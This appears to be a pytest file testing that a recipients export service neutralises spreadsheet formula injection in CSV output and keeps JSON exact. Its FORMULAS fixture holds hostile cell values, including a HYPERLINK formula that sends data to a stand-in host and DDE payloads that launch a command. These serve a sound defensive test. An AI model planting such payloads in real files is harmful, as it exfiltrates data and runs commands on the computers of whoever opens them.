"""The recipients export: a CSV that no spreadsheet runs as formulas, a JSON that is exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from builders import World, sqlite_url

# Values an importer could plant to run in whoever opens the export in a spreadsheet.
FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
    "outlet": "+cmd|' /C calc'!A0",
    "consent_source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "stream_client": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def database_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """About the export's format, not the database: SQLite is enough."""
    return sqlite_url(request, tmp_path)


def _import(client: TestClient, world: World, rows: list[dict[str, object]]) -> None:
    response = client.post(
        "/api/v1/recipients/import?format=json",
        content=json.dumps(rows),
        headers=world.headers("editor"),
    )
    assert response.status_code == 200 and response.json()["imported"] == len(rows), response.text


def _hostile_terminal() -> dict[str, object]:
    return {
        "kind": "terminal",
        "name": FORMULAS["name"],
        "outlet": {"name": FORMULAS["outlet"], "type": "terminal"},
        "consent_source": FORMULAS["consent_source"],
        "stream_client": FORMULAS["stream_client"],
        "subscriptions": [{"name": "All"}],
    }


def _export(client: TestClient, world: World, fmt: str) -> str:
    response = client.get(
        f"/api/v1/recipients/export?format={fmt}", headers=world.headers("editor")
    )
    assert response.status_code == 200, response.text
    return response.text


def test_cells_that_start_like_a_formula_are_quoted_in_the_csv_export(
    client: TestClient, world: World
) -> None:
    _import(client, world, [_hostile_terminal()])
    [row] = list(csv.DictReader(io.StringIO(_export(client, world, "csv"))))
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert row["kind"] == "terminal"  # ordinary cells are left as they are


def test_the_json_export_keeps_the_values_exactly(client: TestClient, world: World) -> None:
    _import(client, world, [_hostile_terminal()])
    [item] = json.loads(_export(client, world, "json"))
    assert item["name"] == FORMULAS["name"]
    assert item["outlet"]["name"] == FORMULAS["outlet"]
    assert item["consent_source"] == FORMULAS["consent_source"]
    assert item["stream_client"] == FORMULAS["stream_client"]


def test_a_quoted_csv_export_imports_back_to_the_original_values(
    client: TestClient, world: World
) -> None:
    _import(client, world, [_hostile_terminal()])
    exported = _export(client, world, "csv")
    [recipient] = client.get("/api/v1/recipients", headers=world.headers("editor")).json()
    erased = client.delete(f"/api/v1/recipients/{recipient['id']}", headers=world.headers("editor"))
    assert erased.status_code == 204
    response = client.post(
        "/api/v1/recipients/import?format=csv",
        content=exported.encode(),
        headers=world.headers("editor"),
    )
    assert response.status_code == 200 and response.json()["imported"] == 1, response.text
    [item] = json.loads(_export(client, world, "json"))
    assert (item["name"], item["outlet"]["name"], item["consent_source"]) == (
        FORMULAS["name"],
        FORMULAS["outlet"],
        FORMULAS["consent_source"],
    )
    assert item["stream_client"] == FORMULAS["stream_client"]
